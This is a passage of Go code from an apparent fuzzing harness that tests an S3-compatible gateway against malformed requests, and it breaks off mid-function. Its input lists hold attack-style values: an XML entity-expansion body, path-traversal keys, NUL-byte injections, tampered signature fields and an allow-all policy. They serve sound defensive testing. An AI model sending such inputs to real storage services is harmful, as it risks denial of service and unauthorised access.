								ro = build(true)
								rw = twin()
								base = ro.F.G.Snapshot(gw.SnapOpts{})
							} else if resp.Err != nil || resp.Status < 400 {
								r.Violation(ck.JoinSig(t.name, verClass(vid), roleOf(c), fmt.Sprintf("mutating-request-answered-%d", resp.Status)), det)
							}
						}
					}
				}
			}
			rw.Close()
			ro.Close()
		}
	})
}

func roleOf(c gw.Creds) string {
	switch c.Access {
	case gw.RootAccess:
		return "root"
	case "adm1":
		return "admin"
	case "up1":
		return "userplus"
	case "usr1":
		return "owner"
	case "usr3":
		return "policy-grantee"
	}
	return "other-user"
}
