package checks

import (
	"bytes"
	"encoding/json"
	"encoding/xml"
	"fmt"
	"github.com/versity/versitygw/s3event"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strconv"
	"strings"
	"sync"
	"time"

	"verif/ck"
	"verif/gw"
)

func init() { Registry["C20"] = C20 }

// c20Case is the valid request of one endpoint with ONE (or two) fields replaced.
type c20Case struct {
	EP    string
	Field string // e.g. "query:max-keys", "header:Range", "body", "key", "chunk-framing"
	Class string // value class (for the signature)
	Value string
	Cred  string // valid | wrong-secret | anonymous
	// second deviation (thorough)
	Field2, Value2 string
}

var c20Numbers = []string{"", "0", "-1", "1", "2147483647", "2147483648", "9223372036854775807", "9223372036854775808", "18446744073709551616", "1e3", " 1", "０", "abc", "1.5", "0x10"}
var c20IDs = []string{"", "zzz-not-there", strings.Repeat("a", 1024), "%00", "a\x00b", "../..", "a/b", "%zz", "é", " ", "?", "&x=1", "null"}

func c20XMLBodies(root string) []string {
	deep := strings.Repeat("<a>", 200) + strings.Repeat("</a>", 200)
	return []string{"", "<", "<" + root + ">", "<" + root + "></" + root + ">", "<" + root + "/>", "<Wrong></Wrong>", "<" + root + ">" + deep + "</" + root + ">",
		"<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\">]><" + root + ">&b;</" + root + ">",
		"\x00\x01\x02", "{}", strings.Repeat("<"+root+">", 50), "<" + root + "><Rule></Rule></" + root + ">", "<" + root + "><Rule/><Rule/></" + root + ">",
		"<" + root + "><Status></Status></" + root + ">", "<" + root + " xmlns=\"x\"><TagSet></TagSet></" + root + ">", "<" + root + "><TagSet><Tag></Tag></TagSet></" + root + ">",
		"<" + root + "><Object></Object></" + root + ">", "<" + root + "><Object><Key></Key></Object></" + root + ">", "<" + root + "><Part></Part></" + root + ">",
		"<" + root + "><Part><PartNumber>-1</PartNumber><ETag></ETag></Part></" + root + ">", "<" + root + "><Part><PartNumber>99999999999999999999</PartNumber><ETag>x</ETag></Part></" + root + ">",
		"<" + root + "><Mode>GOVERNANCE</Mode></" + root + ">", "<" + root + "><RetainUntilDate>not-a-date</RetainUntilDate></" + root + ">", "<" + root + "><Rule><DefaultRetention></DefaultRetention></Rule></" + root + ">",
		"<" + root + "><Rule><DefaultRetention><Days>-1</Days><Years>1</Years></DefaultRetention></Rule></" + root + ">", "<" + root + "><ObjectLockEnabled>Enabled</ObjectLockEnabled><Rule><DefaultRetention><Mode>X</Mode><Days>99999999999</Days></DefaultRetention></Rule></" + root + ">",
		"<" + root + "><AccessControlList></AccessControlList></" + root + ">", "<" + root + "><Owner></Owner><AccessControlList><Grant></Grant></AccessControlList></" + root + ">",
		"<" + root + "><AccessControlList><Grant><Grantee></Grantee><Permission>READ</Permission></Grant></AccessControlList></" + root + ">",
		"<" + root + "><AccessControlList><Grant><Permission>READ</Permission></Grant></AccessControlList></" + root + ">",
		"<" + root + "><Owner><ID>usr1</ID></Owner><AccessControlList><Grant><Permission>READ</Permission></Grant></AccessControlList></" + root + ">",
		"<" + root + "><Owner><ID>usr1</ID></Owner><AccessControlList><Grant><Grantee><ID>usr3</ID></Grantee></Grant></AccessControlList></" + root + ">",
		"<" + root + "><Object><VersionId>x</VersionId></Object><Object><Key>obj1</Key></Object></" + root + ">",
		"<" + root + "><MfaDelete>Disabled</MfaDelete></" + root + ">",
		"<" + root + "><RequestProgress></RequestProgress></" + root + ">",
		"<" + root + "><Expression>select * from s3object</Expression><ExpressionType>SQL</ExpressionType><RequestProgress><Enabled></Enabled></RequestProgress><InputSerialization><CSV></CSV></InputSerialization><OutputSerialization><CSV></CSV></OutputSerialization></" + root + ">",
		"<" + root + "><Expression>select * from s3object</Expression><ExpressionType>SQL</ExpressionType><RequestProgress></RequestProgress><ScanRange></ScanRange></" + root + ">"}
}

var c20JSONBodies = []string{"", "{", "[]", "null", "{}", `{"Statement":null}`, `{"Statement":[null]}`, `{"Statement":[{}]}`, `{"Statement":[[]]}`, `{"Statement":{"a":1}}`, `{"Statement":[{"Effect":"Allow","Principal":null,"Action":null,"Resource":null}]}`,
	`{"Statement":[{"Effect":"Allow","Principal":{},"Action":[],"Resource":[]}]}`, `{"Statement":[{"Effect":"Allow","Principal":{"AWS":null},"Action":"s3:*","Resource":"arn:aws:s3:::"}]}`,
	`{"Statement":[{"Effect":1,"Principal":2,"Action":3,"Resource":4}]}`, strings.Repeat("[", 5000), `{"Statement":[{"Effect":"Allow","Principal":"*","Action":"s3:*","Resource":"*"}]}`, "\xff\xfe"}

// every field of a valid policy statement replaced by every degenerate JSON value of a small class (an element
// that is empty, null or of another type, alone and beside a valid element)
func init() {
	valid := map[string]string{"Effect": `"Allow"`, "Principal": `"*"`, "Action": `"s3:GetObject"`, "Resource": `"arn:aws:s3:::bk-main/*"`}
	order := []string{"Effect", "Principal", "Action", "Resource"}
	for _, f := range order {
		v := valid[f]
		for _, sub := range []string{`""`, `[""]`, `[null]`, `[` + v + `,""]`, `["",` + v + `]`, `[` + v + `,null]`, `[[]]`, `[{}]`, `[1]`, `[true]`, `{"AWS":[""]}`, `{"AWS":[null]}`, `{"AWS":[` + v + `,""]}`, `{"AWS":{}}`,
			`"s3:"`, `":"`, `"*"`, `"**"`, `"s3:*x"`, `"arn:aws:s3:::"`, `"arn:aws:s3:::/"`, `"arn:aws:s3:::*"`, `"arn:aws:s3:::bk-main/"`, `true`, `1.5`, `"` + strings.Repeat("s3:Get", 2000) + `*"`} {
			var parts []string
			for _, g := range order {
				val := valid[g]
				if g == f {
					val = sub
				}
				parts = append(parts, `"`+g+`":`+val)
			}
			c20JSONBodies = append(c20JSONBodies, `{"Statement":[{`+strings.Join(parts, ",")+`}]}`)
		}
	}
}

var c20CopySources = []string{"", "/", "bk-main", "bk-main/", "/bk-main/obj1", "bk-main/obj1?versionId=", "bk-main/obj1?versionId=zzz", "?versionId=x", "//", "%", "%zz", "bk-main/../bk-other/secret", "nosuchbucket/k", "bk-main/nosuchkey", strings.Repeat("a/", 600), "bk-main/obj1?x=y", "bk-main%2Fobj1"}

// c20ScopeParts replace the region of the credential scope (quoted back in SignatureDoesNotMatch-style errors).
var c20ScopeParts = []string{"us\x01east", "us\xffeast", "us<east", "us&east;", "us\"east", "", strings.Repeat("r", 3000), "us\x7feast", "us\u2028east", "%00", "us east"}

// c20AuthDates replace the request date / the day of the credential scope; c20AuthTokens the SignedHeaders list and the signature.
var c20AuthDates = []string{"", "0", "-1", "2026", "2026092", "20260929", "20260929T", "20260929T0000", "20260929T000000", "20260929T000000ZZ", "99999999T999999Z", "２０２６０９２９T000000Z", "20260929t000000z", strings.Repeat("2", 3000), "Mon, 02 Jan 2006 15:04:05 GMT", "%00"}
var c20AuthTokens = []string{"", ";", "x", ";;host;;", "HOST", "host;host", "content-length", "host;x-amz-date;nosuchheader", strings.Repeat("a", 3000), "zz", strings.Repeat("ab", 31) + "a", strings.Repeat("g", 64), "%00"}

// w0DirObj is a directory object of the fixture (see c20World).
const w0DirObj = "dirobj/"

// c20Targets are request targets that are not an absolute path (the request line carries them verbatim).
var c20Targets = []string{"foo", "*", "?x", "%zz", "bk-main/obj1", "bk-main", "http://gw.local:7070/bk-main/obj1", "//", "/%", ".", "..", "%2Fbk-main%2Fobj1", "\\bk-main", "#"}

var c20Ranges = []string{"bytes=-1", "bytes=0-", "bytes=9999999999999999999999-", "bytes=1-0", "garbage", "bytes=0-0,1-1", "bytes=-", "bytes=-9223372036854775808"}

// optional parameters an endpoint accepts besides its valid template
var c20OptQuery = map[string][]string{
	"ListBuckets":             {"max-buckets", "continuation-token", "prefix"},
	"ListObjects":             {"max-keys", "marker", "prefix", "delimiter", "encoding-type"},
	"ListObjectsV2":           {"max-keys", "continuation-token", "start-after", "prefix", "delimiter", "fetch-owner"},
	"ListObjectVersions":      {"max-keys", "key-marker", "version-id-marker", "prefix", "delimiter"},
	"ListMultipartUploads":    {"max-uploads", "key-marker", "upload-id-marker", "prefix", "delimiter"},
	"ListParts":               {"max-parts", "part-number-marker", "uploadId"},
	"GetObject":               {"versionId", "partNumber", "response-content-type"},
	"HeadObject":              {"versionId", "partNumber"},
	"DeleteObject":            {"versionId"},
	"GetObjectTagging":        {"versionId"},
	"PutObjectTagging":        {"versionId"},
	"GetObjectRetention":      {"versionId"},
	"PutObjectRetention":      {"versionId"},
	"GetObjectLegalHold":      {"versionId"},
	"PutObjectLegalHold":      {"versionId"},
	"GetObjectAttributes":     {"versionId"},
	"UploadPart":              {"uploadId", "partNumber"},
	"UploadPartCopy":          {"uploadId", "partNumber"},
	"CompleteMultipartUpload": {"uploadId"},
	"AbortMultipartUpload":    {"uploadId"},
	"AdminDeleteUser":         {"access"},
	"AdminUpdateUser":         {"access"},
	"AdminChangeBucketOwner":  {"bucket", "owner"},
}

var c20NumericParams = map[string]bool{"max-keys": true, "max-buckets": true, "max-uploads": true, "max-parts": true, "part-number-marker": true, "partNumber": true}

var c20OptHeaders = map[string][]string{
	"GetObject":               {"Range", "x-amz-checksum-mode", "If-Match", "If-None-Match", "If-Modified-Since"},
	"HeadObject":              {"Range", "x-amz-checksum-mode"},
	"GetObjectAttributes":     {"x-amz-object-attributes", "x-amz-max-parts", "x-amz-part-number-marker"},
	"CopyObject":              {"x-amz-copy-source", "x-amz-metadata-directive", "x-amz-tagging-directive", "x-amz-copy-source-if-modified-since", "x-amz-tagging", "x-amz-object-lock-mode", "x-amz-object-lock-retain-until-date", "x-amz-checksum-algorithm"},
	"UploadPartCopy":          {"x-amz-copy-source", "x-amz-copy-source-range"},
	"PutObject":               {"Content-MD5", "x-amz-tagging", "x-amz-object-lock-mode", "x-amz-object-lock-retain-until-date", "x-amz-object-lock-legal-hold", "x-amz-checksum-crc32", "x-amz-sdk-checksum-algorithm", "x-amz-decoded-content-length", "x-amz-trailer", "Content-Length", "x-amz-meta-x", "Expires"},
	"UploadPart":              {"Content-MD5", "x-amz-checksum-sha256", "x-amz-sdk-checksum-algorithm", "x-amz-decoded-content-length"},
	"CreateMultipartUpload":   {"x-amz-checksum-algorithm", "x-amz-checksum-type", "x-amz-tagging", "x-amz-object-lock-mode", "x-amz-object-lock-retain-until-date"},
	"CompleteMultipartUpload": {"x-amz-mp-object-size", "x-amz-checksum-type", "x-amz-checksum-crc32"},
	"CreateBucket":            {"x-amz-acl", "x-amz-grant-read", "x-amz-object-ownership", "x-amz-bucket-object-lock-enabled"},
	"PutBucketAcl":            {"x-amz-acl", "x-amz-grant-read", "x-amz-grant-full-control"},
	"DeleteObject":            {"x-amz-bypass-governance-retention"},
	"DeleteObjects":           {"x-amz-bypass-governance-retention", "Content-MD5"},
	"PutObjectRetention":      {"x-amz-bypass-governance-retention"},
	"ListObjectsV2":           {"x-amz-optional-object-attributes"},
}

var c20HeaderValues = []string{"", "x", "-1", "99999999999999999999", "true", "TRUE", "not-a-date", "2035-01-01T00:00:00Z", "Mon, 02 Jan 2006 15:04:05 GMT", "a=b&c", "=&=", strings.Repeat("k=v&", 60), "%zz", "\"", strings.Repeat("z", 8000), "ETag,Bogus", "COMPLIANCE", "BOGUS", "x-amz-checksum-crc32", "AAAA", "id=usr3", "uri=http://acs.amazonaws.com/groups/global/AllUsers", "emailAddress=a@b"}

func c20XMLRoot(ep string) string {
	switch ep {
	case "PutBucketTagging", "PutObjectTagging":
		return "Tagging"
	case "PutBucketOwnershipControls":
		return "OwnershipControls"
	case "PutBucketVersioning":
		return "VersioningConfiguration"
	case "PutObjectLockConfiguration":
		return "ObjectLockConfiguration"
	case "PutBucketAcl", "PutObjectAcl":
		return "AccessControlPolicy"
	case "DeleteObjects":
		return "Delete"
	case "PutObjectRetention":
		return "Retention"
	case "PutObjectLegalHold":
		return "LegalHold"
	case "CompleteMultipartUpload":
		return "CompleteMultipartUpload"
	case "RestoreObject":
		return "RestoreRequest"
	case "SelectObjectContent":
		return "SelectObjectContentRequest"
	case "PutBucketCors":
		return "CORSConfiguration"
	case "CreateBucket":
		return "CreateBucketConfiguration"
	case "AdminCreateUser":
		return "Account"
	case "AdminUpdateUser":
		return "MutableProps"
	}
	return ""
}

var c20ChunkFraming = []string{
	"ffffffffffffffff;chunk-signature=SIG\r\nabc\r\n0;chunk-signature=SIG\r\n\r\n",
	"7fffffffffffffff;chunk-signature=SIG\r\nabc\r\n",
	"-1;chunk-signature=SIG\r\n\r\n",
	"3chunk-signature=SIG\r\nabc\r\n",
	"3;chunk-signature=" + strings.Repeat("a", 1025) + "\r\nabc\r\n",
	strings.Repeat("0", 2000) + "3;chunk-signature=SIG\r\nabc\r\n",
	"3;chunk-signature=SIG\r\nabc\r\n0;chunk-signature=SIG\r\n",
	"3;chunk-signature=SIG\nabc\n0;chunk-signature=SIG\n\n",
	"",
	"\r\n\r\n\r\n",
	"0;chunk-signature=\r\n\r\n",
	"zz;chunk-signature=SIG\r\n",
}

var c20UnsignedFraming = []string{
	"ffffffffffffffff\r\nabc\r\n0\r\nx-amz-checksum-crc32:AAAAAA==\r\n\r\n",
	"7fffffffffffffff\r\nabc\r\n0\r\n\r\n",
	"40000000\r\nabc\r\n0\r\nx-amz-checksum-crc32:AAAAAA==\r\n\r\n",
	"-1\r\n\r\n",
	"3\r\nabc\r\n0\r\n",
	"3\r\nabc\r\n0\r\nx-amz-checksum-crc32\r\n\r\n",
	"3\r\nabc\r\n0\r\n" + strings.Repeat("x", 70000),
	"3\r\nabc\r\n0\r\nx-amz-checksum-crc32:" + strings.Repeat("A", 70000) + "\r\n\r\n",
	"",
	"\r\n",
	strings.Repeat("1", 5000) + "\r\n",
}

func c20Cases(thorough bool) []c20Case {
	var out []c20Case
	creds := []string{"valid", "wrong-secret", "anonymous", "unknown-access-key"}
	add := func(ep, field, class, val string) {
		for _, c := range creds {
			if c != "valid" && !thorough && field != "body" && field != "body-only" && field != "no-content-length" && field != "target" && field != "credential-region" && field != "presigned-credential-region" && field != "chunk-framing" && field != "unsigned-framing" {
				// quick tier: invalid credentials only for bodies and framing (the parsers reachable before authentication)
				continue
			}
			out = append(out, c20Case{EP: ep, Field: field, Class: class, Value: val, Cred: c})
		}
	}
	for _, ep := range Endpoints() {
		// query parameters: template ones and optional ones
		for _, p := range c20OptQuery[ep.ID] {
			vals := c20IDs
			class := "id"
			if c20NumericParams[p] {
				vals = c20Numbers
				class = "number"
			}
			for _, v := range vals {
				add(ep.ID, "query:"+p, class, v)
			}
		}
		for _, h := range c20OptHeaders[ep.ID] {
			vals := c20HeaderValues
			switch h {
			case "x-amz-copy-source":
				vals = c20CopySources
			case "Range", "x-amz-copy-source-range":
				vals = c20Ranges
			}
			for _, v := range vals {
				add(ep.ID, "header:"+h, "header", v)
			}
		}
		if ep.ID == "GetObject" || ep.ID == "PutObject" || ep.ID == "ListBuckets" || ep.ID == "CreateBucket" {
			for _, n := range []int{1, 113, 114, 115, 200, 4000} {
				add(ep.ID, "header-name", "header-name", strings.Repeat("x", n))
			}
		}
		if root := c20XMLRoot(ep.ID); root != "" {
			for _, b := range c20XMLBodies(root) {
				add(ep.ID, "body", "xml", b)
			}
		}
		if ep.ID == "PutBucketAcl" || ep.ID == "PutObjectAcl" || ep.ID == "CreateBucket" {
			// the document alone: the template's canned-ACL header makes the gateway refuse the request before it looks at the body
			for _, b := range c20XMLBodies(c20XMLRoot(ep.ID)) {
				add(ep.ID, "body-only", "xml", b)
			}
		}
		if ep.Method == "PUT" || ep.Method == "POST" {
			// a request that declares no body at all: neither Content-Length nor Transfer-Encoding
			add(ep.ID, "no-content-length", "framing", "")
		}
		if ep.ID == "GetObject" || ep.ID == "PutObject" || ep.ID == "ListBuckets" || ep.ID == "HeadObject" || ep.ID == "DeleteObject" || ep.ID == "ListObjectsV2" {
			for _, tgt := range c20Targets {
				add(ep.ID, "target", "request-target", tgt)
			}
		}
		if ep.ID == "GetObject" || ep.ID == "PutObject" || ep.ID == "ListBuckets" || ep.ID == "ListObjectsV2" {
			// client-controlled text that error messages quote: the region (and other parts) of the credential scope
			for _, v := range c20ScopeParts {
				add(ep.ID, "credential-region", "credential-scope", v)
				add(ep.ID, "presigned-credential-region", "credential-scope", v)
			}
		}
		if ep.ID == "GetObject" || ep.ID == "PutObject" || ep.ID == "ListBuckets" || ep.ID == "CreateBucket" {
			// the authentication elements themselves, replaced after signing (the bytes go out as they are)
			for _, v := range c20AuthDates {
				add(ep.ID, "auth:x-amz-date", "auth-element", v)
				add(ep.ID, "auth:credential-date", "auth-element", v)
				add(ep.ID, "auth:presigned-date", "auth-element", v)
				add(ep.ID, "auth:presigned-credential-date", "auth-element", v)
			}
			for _, v := range c20AuthTokens {
				add(ep.ID, "auth:signed-headers", "auth-element", v)
				add(ep.ID, "auth:signature", "auth-element", v)
				add(ep.ID, "auth:presigned-signed-headers", "auth-element", v)
			}
			for _, v := range c20Numbers {
				add(ep.ID, "auth:presigned-expires", "auth-element", v)
			}
		}
		if ep.ID == "PutBucketPolicy" {
			for _, b := range c20JSONBodies {
				add(ep.ID, "body", "json", b)
			}
		}
		if ep.Level == "object" {
			for _, k := range []string{strings.Repeat("k", 1025), strings.Repeat("d/", 300) + "x", "a//b", "a/./b", "%00", ".sgwtmp/x", "a\x7fb", strings.Repeat("é", 200), "a b+c&d=e?f#g"} {
				add(ep.ID, "key", "key", k)
			}
			// keys in a particular state: the current version is a delete marker; a directory object; a key below a file
			for _, k := range []string{"todelete", "dir/", w0DirObj, "obj1/below-a-file"} {
				add(ep.ID, "key", "key-state", k)
			}
		}
		if ep.Level == "bucket" {
			for _, b := range []string{"A", "ab", strings.Repeat("b", 64), "a..b", "192.168.0.1", "-ab", "ab-", "a_b", ".sgwtmp", "bk-main%00"} {
				add(ep.ID, "bucket", "bucket-name", b)
			}
		}
		if ep.BigData {
			for _, f := range c20ChunkFraming {
				add(ep.ID, "chunk-framing", "signed-chunks", f)
			}
			for _, f := range c20UnsignedFraming {
				add(ep.ID, "unsigned-framing", "unsigned-chunks", f)
			}
		}
	}
	if thorough {
		// two deviations: every pair (numeric query parameter value) × (id parameter value) on the listing endpoints
		for _, ep := range []string{"ListObjects", "ListObjectsV2", "ListObjectVersions", "ListMultipartUploads", "ListParts", "ListBuckets"} {
			ps := c20OptQuery[ep]
			for _, p1 := range ps {
				if !c20NumericParams[p1] {
					continue
				}
				for _, p2 := range ps {
					if c20NumericParams[p2] || p2 == p1 {
						continue
					}
					for _, v1 := range []string{"0", "1", "2", "-1", "2147483648"} {
						for _, v2 := range []string{"", "obj1", "dir/", "dir/obj2", "mpk", "mpk2", "dir/mpk3", "a-up", "zz-up", "todelete", "zzz", "a", "~"} {
							out = append(out, c20Case{EP: ep, Field: "query:" + p1, Class: "number+id", Value: v1, Cred: "valid", Field2: "query:" + p2, Value2: v2})
						}
					}
				}
			}
		}
	}
	return out
}

func setQuery(q, key, val string) string {
	var parts []string
	found := false
	for _, p := range strings.Split(q, "&") {
		if p == "" {
			continue
		}
		k, _, _ := strings.Cut(p, "=")
		if k == key {
			found = true
			parts = append(parts, gw.Q(key, val))
			if val == "" {
				parts[len(parts)-1] = key + "="
			}
			continue
		}
		parts = append(parts, p)
	}
	if !found {
		if val == "" {
			parts = append(parts, key+"=")
		} else {
			parts = append(parts, gw.Q(key, val))
		}
	}
	return strings.Join(parts, "&")
}

func (c c20Case) build(w *World) *gw.Req {
	var ep *EP
	eps := Endpoints()
	for i := range eps {
		if eps[i].ID == c.EP {
			ep = &eps[i]
		}
	}
	req := ep.Build(w, "")
	apply := func(field, val string) {
		switch {
		case strings.HasPrefix(field, "query:"):
			req.Query = setQuery(req.Query, strings.TrimPrefix(field, "query:"), val)
		case strings.HasPrefix(field, "header:"):
			req.Set(strings.TrimPrefix(field, "header:"), sanitizeHeader(val))
		case field == "header-name":
			req.Set("X-"+val, "v")
		case field == "body":
			req.Body = []byte(val)
		case field == "body-only":
			req.Body = []byte(val)
			for _, h := range append([][2]string(nil), req.Headers...) {
				if l := strings.ToLower(h[0]); l == "x-amz-acl" || strings.HasPrefix(l, "x-amz-grant-") {
					req.Del(h[0])
				}
			}
		case field == "no-content-length":
			req.Body = nil
			req.NoAutoCL = true
			req.Del("Content-Length")
			req.Del("Content-MD5")
		case field == "target":
			req.Path = val
			if i := strings.IndexAny(val, "?#"); i >= 0 {
				req.Query = ""
			}
		case field == "key":
			b := strings.SplitN(strings.TrimPrefix(req.Path, "/"), "/", 2)[0]
			req.Path = "/" + b + "/" + gw.URIEncode(val, false)
		case field == "bucket":
			parts := strings.SplitN(strings.TrimPrefix(req.Path, "/"), "/", 2)
			req.Path = "/" + gw.URIEncode(val, true)
			if len(parts) == 2 {
				req.Path += "/" + parts[1]
			}
		}
	}
	apply(c.Field, c.Value)
	if c.Field2 != "" {
		apply(c.Field2, c.Value2)
	}
	cred := gw.Root
	switch c.Cred {
	case "wrong-secret":
		cred = gw.Creds{Access: gw.RootAccess, Secret: "wrong"}
	case "unknown-access-key":
		cred = gw.Creds{Access: "nosuchaccesskey", Secret: "whatever-secret-it-has"}
	}
	switch c.Field {
	case "chunk-framing":
		req.Set("x-amz-decoded-content-length", "3")
		req.Set("Content-Encoding", "aws-chunked")
		sg := gw.Sign(req, cred, gw.SignOpts{PayloadHash: gw.StreamSigned})
		req.Body = []byte(strings.ReplaceAll(c.Value, "SIG", sg.Signature))
	case "unsigned-framing":
		req.Set("x-amz-decoded-content-length", "3")
		req.Set("x-amz-trailer", "x-amz-checksum-crc32")
		req.Set("Content-Encoding", "aws-chunked")
		gw.Sign(req, cred, gw.SignOpts{PayloadHash: gw.StreamUnsignedTrailer})
		req.Body = []byte(c.Value)
	default:
		if c.Field == "header:Content-Length" {
			req.NoAutoCL = false
		}
		gw.Sign(req, cred, gw.SignOpts{NoSignHeaders: []string{"range", "content-length"}})
	}
	switch c.Field {
	case "credential-region":
		// the signed request names another region in its credential scope (the bytes go out as they are)
		a := req.Get("Authorization")
		if i := strings.Index(a, "/"+gw.Region+"/s3/aws4_request"); i >= 0 {
			req.Set("Authorization", a[:i]+"/"+strings.Map(func(r rune) rune {
				if r == '\r' || r == '\n' || r == 0 {
					return -1
				}
				return r
			}, c.Value)+a[i+len("/"+gw.Region):])
		}
	case "auth:x-amz-date":
		req.Set("X-Amz-Date", sanitizeHeader(c.Value))
	case "auth:credential-date", "auth:signed-headers", "auth:signature":
		a := req.Get("Authorization")
		day := time.Now().UTC().Format("20060102")
		switch c.Field {
		case "auth:credential-date":
			a = strings.Replace(a, "/"+day+"/", "/"+c.Value+"/", 1)
		case "auth:signed-headers":
			if i, j := strings.Index(a, "SignedHeaders="), strings.Index(a, ", Signature="); i >= 0 && j > i {
				a = a[:i] + "SignedHeaders=" + c.Value + a[j:]
			} else if i, j := strings.Index(a, "SignedHeaders="), strings.Index(a, ",Signature="); i >= 0 && j > i {
				a = a[:i] + "SignedHeaders=" + c.Value + a[j:]
			}
		case "auth:signature":
			if i := strings.Index(a, "Signature="); i >= 0 {
				a = a[:i] + "Signature=" + c.Value
			}
		}
		req.Set("Authorization", sanitizeHeader(a))
	case "auth:presigned-date", "auth:presigned-credential-date", "auth:presigned-signed-headers", "auth:presigned-expires":
		req.Del("Authorization")
		day := time.Now().UTC().Format("20060102")
		date, cday, sh, exp := time.Now().UTC().Format("20060102T150405Z"), day, "host", "600"
		switch c.Field {
		case "auth:presigned-date":
			date = c.Value
		case "auth:presigned-credential-date":
			cday = c.Value
		case "auth:presigned-signed-headers":
			sh = c.Value
		case "auth:presigned-expires":
			exp = c.Value
		}
		q := "X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=" + gw.URIEncode(cred.Access+"/"+cday+"/"+gw.Region+"/s3/aws4_request", true) + "&X-Amz-Date=" + gw.URIEncode(date, true) + "&X-Amz-Expires=" + gw.URIEncode(exp, true) + "&X-Amz-SignedHeaders=" + gw.URIEncode(sh, true) + "&X-Amz-Signature=" + strings.Repeat("ab", 32)
		if req.Query != "" {
			q = req.Query + "&" + q
		}
		req.Query = q
	case "presigned-credential-region":
		req.Del("Authorization")
		day := time.Now().UTC().Format("20060102")
		q := "X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=" + gw.URIEncode(cred.Access+"/"+day+"/"+c.Value+"/s3/aws4_request", true) + "&X-Amz-Date=" + time.Now().UTC().Format("20060102T150405Z") + "&X-Amz-Expires=600&X-Amz-SignedHeaders=host&X-Amz-Signature=" + strings.Repeat("ab", 32)
		if req.Query != "" {
			q = req.Query + "&" + q
		}
		req.Query = q
	}
	if c.Cred == "anonymous" {
		req.Del("Authorization")
	}
	return req
}

func sanitizeHeader(v string) string {
	// header values cannot carry CR/LF/NUL on the wire
	return strings.Map(func(r rune) rune {
		if r == '\r' || r == '\n' || r == 0 {
			return -1
		}
		return r
	}, v)
}

// wellFormed checks the response document.
func c20WellFormed(method string, resp *gw.Resp) string {
	if resp.Err != nil {
		return "no-wellformed-http-response"
	}
	if method == "HEAD" || len(resp.Body) == 0 {
		return ""
	}
	if resp.Status >= 400 {
		var e struct {
			XMLName xml.Name
			Code    string
		}
		if err := xml.Unmarshal(resp.Body, &e); err != nil || e.Code == "" {
			return "error-without-S3-error-document"
		}
		return ""
	}
	ct := resp.Header.Get("Content-Type")
	if strings.Contains(ct, "xml") {
		d := xml.NewDecoder(bytes.NewReader(resp.Body))
		for {
			_, err := d.Token()
			if err != nil {
				if err.Error() == "EOF" {
					break
				}
				return "success-body-not-wellformed-xml"
			}
		}
	}
	return ""
}

const c20AllocLimit = 64 << 20

// c20Worker runs cases[from..] of its shard, writing its position before every case.
func c20Worker(r *ck.Run, cases []c20Case, shard, nshards, from int, progress string) {
	// the gateway's debug logger prints every request to stdout
	if null, err := os.OpenFile(os.DevNull, os.O_WRONLY, 0); err == nil {
		os.Stdout = null
	}
	w := c20World()
	defer w.Close()
	gw.Timeout = 10 * time.Second
	base := w.F.G.Snapshot(gw.SnapOpts{})
	_ = base
	var ms runtime.MemStats
	stopped := 0
	for i := from; i < len(cases); i++ {
		if i%nshards != shard {
			continue
		}
		c := cases[i]
		os.WriteFile(progress, []byte(strconv.Itoa(i)), 0o644)
		req := c.build(w)
		runtime.ReadMemStats(&ms)
		before := ms.TotalAlloc
		start := time.Now()
		resp := w.F.G.Do(req)
		el := time.Since(start)
		runtime.ReadMemStats(&ms)
		alloc := ms.TotalAlloc - before
		r.Add("evaluations", 1)
		r.Distinct(fmt.Sprintf("%s|%s|%s|%s|%s|%s", c.EP, c.Field, c.Value, c.Cred, c.Field2, c.Value2))
		r.Outcome(fmt.Sprintf("%d", resp.Status/100))
		det := map[string]any{"endpoint": c.EP, "field": c.Field, "value": ck.Short(c.Value, 300), "credentials": c.Cred, "field2": c.Field2, "value2": c.Value2,
			"request": ck.Short(req.String(), 400), "headers": fmt.Sprint(req.Headers)[:min(600, len(fmt.Sprint(req.Headers)))], "body": ck.Short(string(req.Body), 300), "response": resp.String(), "elapsed_ms": el.Milliseconds(), "alloc_bytes": alloc}
		sig := func(an string) string { return ck.JoinSig(c.EP, c.Field, c.Class, "cred="+c.Cred, an) }
		if a := c20WellFormed(req.Method, resp); a != "" {
			if a == "no-wellformed-http-response" && el >= gw.Timeout {
				a = "no-answer-within-10s"
			}
			if a == "error-without-S3-error-document" && (resp.Status == 431 || strings.HasPrefix(string(resp.Body), "error when reading request headers") || strings.Contains(string(resp.Body), "Request Header Fields Too Large")) {
				// refused by the HTTP server itself (fasthttp), before any gateway code: one class per status
				r.Violation(ck.JoinSig("http-layer-plain-text-error", fmt.Sprint(resp.Status)), det)
			} else {
				r.Violation(sig(a), det)
			}
		}
		if alloc > c20AllocLimit+4*uint64(len(req.Body)) {
			r.Violation(sig("allocation-sized-by-input"), det)
		}
		if c.Cred != "valid" && resp.Err == nil && resp.Status < 400 {
			r.Violation(sig(fmt.Sprintf("invalid-credentials-answered-%d", resp.Status)), det)
		}
		// the gateway must still serve other clients
		hp := w.F.Do(gw.Root, "HEAD", "/"+w.Other, "", nil, nil)
		if hp.Err == nil && hp.Status == 200 {
			// ... including clients whose account is not cached and administrators changing accounts
			// (an account is created, used once and deleted again)
			pc := gw.Creds{Access: "c20probe", Secret: "c20probesecret012345"}
			for _, p := range []*gw.Resp{
				w.F.Do(gw.Root, "PATCH", "/create-user", "", nil, xmlUser(pc, "user", 0, 0)),
				w.F.Do(pc, "HEAD", "/"+w.Other, "", nil, nil),
				w.F.Do(gw.Root, "PATCH", "/delete-user", gw.Q("access", pc.Access), nil, nil),
			} {
				if p.Err != nil || p.Status >= 500 {
					hp = p
					det["probe"] = p.String()
					break
				}
			}
		}
		if hp.Err != nil || (hp.Status != 200 && hp.Status != 201) {
			r.Violation(sig("gateway-stopped-serving"), det)
			stopped++
			if stopped >= 3 {
				// every further case would wait for the same time-outs: the verdict is already a violation
				r.Cap("worker stopped after 3 cases that left the gateway unresponsive")
				break
			}
			// the wedged gateway is abandoned (closing it could wait on what it is stuck in)
			os.RemoveAll(w.F.Dir)
			w = c20World()
		}
		// keep the fixture usable: rebuild when the case destroyed it
		if i%97 == 0 || !w.F.Head(gw.Root, w.Bucket, w.Key).OK() {
